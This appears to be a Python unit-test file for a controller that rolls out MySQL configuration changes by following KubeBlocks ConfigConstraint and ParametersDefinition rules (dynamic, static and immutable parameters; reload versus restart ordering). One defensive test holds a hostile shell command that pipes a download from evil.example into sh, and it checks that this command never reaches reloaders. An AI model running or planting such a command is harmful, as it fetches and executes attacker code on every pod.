"""A ReconfigurePolicy classified by KubeBlocks' own objects, unchanged (issue 24): a MySQL
ConfigConstraint of apps.kubeblocks.io names max_connections bare inside [mysqld] and lists
only static parameters, so an unlisted parameter is dynamic (KubeBlocks' rule); a
ParametersDefinition without a reloadAction restarts for every change, as KubeBlocks does."""

from __future__ import annotations

from typing import Any

from tests.unit.controllers.rollouts.fakes import (
    INI_V1,
    MEMBERS,
    Caller,
    Fleet,
    change,
    reconcile,
    reconciler,
)

KB_CC = "ConfigConstraint.apps.kubeblocks.io"
KB_PD = "ParametersDefinition.parameters.kubeblocks.io"


def kubeblocks_fleet(kind: str, **spec: Any) -> Fleet:
    fleet = Fleet()
    reload_policy = spec.pop("reload_policy", "auto")
    api_version = "apps.kubeblocks.io/v1beta1" if kind == KB_CC \
        else "parameters.kubeblocks.io/v1alpha1"
    doc = {"apiVersion": api_version, "kind": kind.split(".")[0],
           "metadata": {"name": "mysql-kb"},  # no uid: parsed at every read, not memoised
           "spec": {"fileFormatConfig": {"format": "ini", "iniConfig": {"sectionName": "mysqld"}},
                    "staticParameters": ["innodb_buffer_pool_size"],
                    "immutableParameters": ["server_id"],
                    "parametersSchema": {"topLevelKey": "MysqlParameter", "cue": "x: int"},
                    **spec}}
    fleet.hub[(kind, "", "mysql-kb")] = doc
    fleet.config_map(INI_V1)
    fleet.copy_everywhere()
    fleet.deployment()
    fleet.add_policy(files=[{"key": "my.ini", "constraintRef": "mysql-kb",
                             "constraintKind": kind}], reloadPolicy=reload_policy)
    for index, cluster in enumerate(MEMBERS):
        fleet.endpoints(cluster, f"127.0.0.{index + 1}")
    return fleet


async def test_a_bare_named_dynamic_parameter_goes_online_to_every_reloader() -> None:
    fleet = kubeblocks_fleet(KB_CC, reloadAction={"unixSignalTrigger": {
        "signal": "SIGHUP", "processName": "mysqld"}})
    caller = Caller()
    rec = reconciler(fleet, caller)
    await reconcile(rec)
    change(fleet, INI_V1.replace("100", "500"))
    await reconcile(rec)
    status = fleet.status()
    assert status["action"] == "online", status
    assert status["changedParameters"] == ["my.ini:max_connections"]
    for _ in MEMBERS:
        fleet.propagate()
        await reconcile(rec)
    assert [c["params"] for c in caller.calls] == [{"max_connections": "500"}] * 3
    assert fleet.status()["phase"] == "Complete"


async def test_a_static_parameter_restarts_and_an_immutable_one_is_refused() -> None:
    fleet = kubeblocks_fleet(KB_CC, reloadAction={"autoTrigger": {}})
    rec = reconciler(fleet, Caller())
    await reconcile(rec)
    change(fleet, INI_V1.replace("128M", "256M"))
    await reconcile(rec)
    assert fleet.status()["action"] == "restart"
    change(fleet, INI_V1.replace("server_id = 1", "server_id = 2"))
    await reconcile(rec)
    accepted = fleet.condition("Accepted")
    assert accepted["reason"] == "ImmutableParameterChanged"
    assert "'my.ini:server_id'" in accepted["message"]


async def test_without_a_reload_action_a_dynamic_change_restarts() -> None:
    fleet = kubeblocks_fleet(KB_PD, fileName="my.ini")
    caller = Caller()
    rec = reconciler(fleet, caller)
    await reconcile(rec)
    change(fleet, INI_V1.replace("100", "500"))
    await reconcile(rec)
    assert fleet.status()["action"] == "restart" and caller.calls == []


async def test_reload_policy_online_without_a_reload_action_is_refused() -> None:
    """An online policy never turns into a silent restart."""
    fleet = kubeblocks_fleet(KB_PD, reload_policy="online")
    rec = reconciler(fleet, Caller())
    await reconcile(rec)
    change(fleet, INI_V1.replace("100", "500"))
    await reconcile(rec)
    accepted = fleet.condition("Accepted")
    assert accepted["reason"] == "StaticChangeNeedsRestart"
    assert "no reload action" in accepted["message"]


async def test_a_kubeblocks_object_we_cannot_honour_refuses_by_field() -> None:
    fleet = kubeblocks_fleet(KB_CC, reloadAction={"autoTrigger": {},
                                                  "targetPodSelector": {"matchLabels": {}}})
    await reconcile(reconciler(fleet, Caller()))
    accepted = fleet.condition("Accepted")
    assert accepted["reason"] == "InvalidConstraint"
    assert accepted["message"].startswith(
        f"spec.files[0].constraintRef: {KB_CC} 'mysql-kb' is invalid: "
        "spec.reloadAction.targetPodSelector: not supported")


async def test_a_missing_kubeblocks_object_is_not_found_under_its_kind() -> None:
    fleet = kubeblocks_fleet(KB_PD)
    del fleet.hub[(KB_PD, "", "mysql-kb")]
    await reconcile(reconciler(fleet, Caller()))
    accepted = fleet.condition("Accepted")
    assert accepted["reason"] == "ConstraintNotFound"
    assert accepted["message"] == (f"spec.files[0].constraintRef: {KB_PD} 'mysql-kb' "
                                   "not found")
    assert fleet.status()["phase"] == "Refused"


async def test_a_shell_trigger_command_never_travels_to_a_reloader() -> None:
    """A hub object's shellTrigger names a program for KubeBlocks to run in every pod.
    Writing such an object must not become running a command in members: the online call
    carries the changed parameters only; the member's reloader runs its own action."""
    hostile = ["/bin/sh", "-c", "curl evil.example | sh"]
    fleet = kubeblocks_fleet(KB_CC, reloadAction={"shellTrigger": {
        "command": hostile, "sync": True, "scriptConfig": {"scriptConfigMapRef": "x"}}})
    caller = Caller()
    rec = reconciler(fleet, caller)
    await reconcile(rec)
    change(fleet, INI_V1.replace("100", "500"))
    await reconcile(rec)
    for _ in MEMBERS:
        fleet.propagate()
        await reconcile(rec)
    assert len(caller.calls) == 3
    for call in caller.calls:
        assert call["params"] == {"max_connections": "500"}
        assert "curl" not in repr(call)


# -- mergeReloadAndRestart / reloadStaticParamsBeforeRestart (KubeBlocks' order of steps) --

BOTH_CHANGED = INI_V1.replace("100", "500").replace("128M", "256M")
"""A dynamic (unlisted: KubeBlocks' rule) and a static parameter changed: a restart."""


class Timeline(Caller):
    """Every reloader call and every restart, in the order they happen, by cluster."""

    def __init__(self, fleet: Fleet) -> None:
        super().__init__()
        self.fleet = fleet
        self.events: list[tuple[str, str, dict[str, str]]] = []

    async def __call__(self, address: str, **kwargs: Any) -> Any:
        answer = await super().__call__(address, **kwargs)
        cluster = MEMBERS[int(address.split(":")[0].rsplit(".", 1)[1]) - 1]
        self.events.append(("reload", cluster, dict(kwargs["params"])))
        return answer

    def propagate(self) -> None:
        before = {c: self.generation(c) for c in MEMBERS}
        self.fleet.propagate()
        self.events += [("restart", c, {}) for c in MEMBERS if self.generation(c) > before[c]]

    def generation(self, cluster: str) -> int:
        live = self.fleet.copies[cluster][("Deployment", "shop", "db")]
        return int(live["metadata"]["generation"])


async def roll(fleet: Fleet, content: str, **spec: Any) -> Timeline:
    """``content`` rolled over the members, one at a time, to the end (or a failure)."""
    timeline = Timeline(fleet)
    rec = reconciler(fleet, timeline)
    await reconcile(rec)
    change(fleet, content)
    await reconcile(rec)
    assert fleet.status()["action"] == "restart", fleet.status()
    for cluster in MEMBERS:
        timeline.propagate()  # the new copy lands
        await reconcile(rec)  # the push before the restart (if asked), then the stamp
        timeline.propagate()  # the stamp: the workloads restart
        fleet.make_ready(cluster)
        await reconcile(rec)  # Done; the next cluster is released
        if fleet.states()[cluster] != "Done":
            break
    return timeline


SIGHUP = {"reloadAction": {"unixSignalTrigger": {"signal": "SIGHUP", "processName": "mysqld"}}}


async def test_merge_false_pushes_the_dynamic_parameters_online_then_restarts() -> None:
    fleet = kubeblocks_fleet(KB_CC, mergeReloadAndRestart=False, **SIGHUP)
    timeline = await roll(fleet, BOTH_CHANGED)
    online = {"max_connections": "500"}
    assert timeline.events == [step for cluster in MEMBERS for step in (
        ("reload", cluster, online), ("restart", cluster, {}))]
    assert fleet.status()["phase"] == "Complete"


async def test_reload_static_params_before_restart_pushes_static_ones_too() -> None:
    fleet = kubeblocks_fleet(KB_PD, reloadStaticParamsBeforeRestart=True, **SIGHUP)
    timeline = await roll(fleet, BOTH_CHANGED)
    online = {"max_connections": "500", "innodb_buffer_pool_size": "256M"}
    assert timeline.events == [step for cluster in MEMBERS for step in (
        ("reload", cluster, online), ("restart", cluster, {}))]
    assert fleet.status()["phase"] == "Complete"


async def test_by_default_a_restart_alone_applies_the_change() -> None:
    """KubeBlocks' default (mergeReloadAndRestart true): no online call, only restarts."""
    fleet = kubeblocks_fleet(KB_CC, **SIGHUP)
    timeline = await roll(fleet, BOTH_CHANGED)
    assert timeline.events == [("restart", cluster, {}) for cluster in MEMBERS]
    assert fleet.status()["phase"] == "Complete"


async def test_merge_false_with_only_a_static_change_just_restarts() -> None:
    """No dynamic parameter changed: nothing to push (KubeBlocks sends no empty reload)."""
    fleet = kubeblocks_fleet(KB_CC, mergeReloadAndRestart=False, **SIGHUP)
    timeline = await roll(fleet, INI_V1.replace("128M", "256M"))
    assert timeline.events == [("restart", cluster, {}) for cluster in MEMBERS]


async def test_a_failed_push_before_the_restart_fails_the_cluster_unrestarted() -> None:
    """The restart never follows a push a reloader refused, and the rollout stops there."""
    fleet = kubeblocks_fleet(KB_CC, mergeReloadAndRestart=False, **SIGHUP)
    timeline = Timeline(fleet)
    timeline.fail["127.0.0.1:9901"] = "SET GLOBAL refused"
    rec = reconciler(fleet, timeline)
    await reconcile(rec)
    change(fleet, BOTH_CHANGED)
    await reconcile(rec)
    timeline.propagate()
    await reconcile(rec)
    timeline.propagate()
    status = fleet.status()
    assert status["phase"] == "Failed", status
    first = status["clusters"][0]
    assert first["state"] == "Failed" and "restartVersion" not in first
    assert first["message"].startswith("ReloaderFailed: Deployment db reloader 127.0.0.1:9901")
    assert timeline.events == [("reload", "member1", {"max_connections": "500"})]
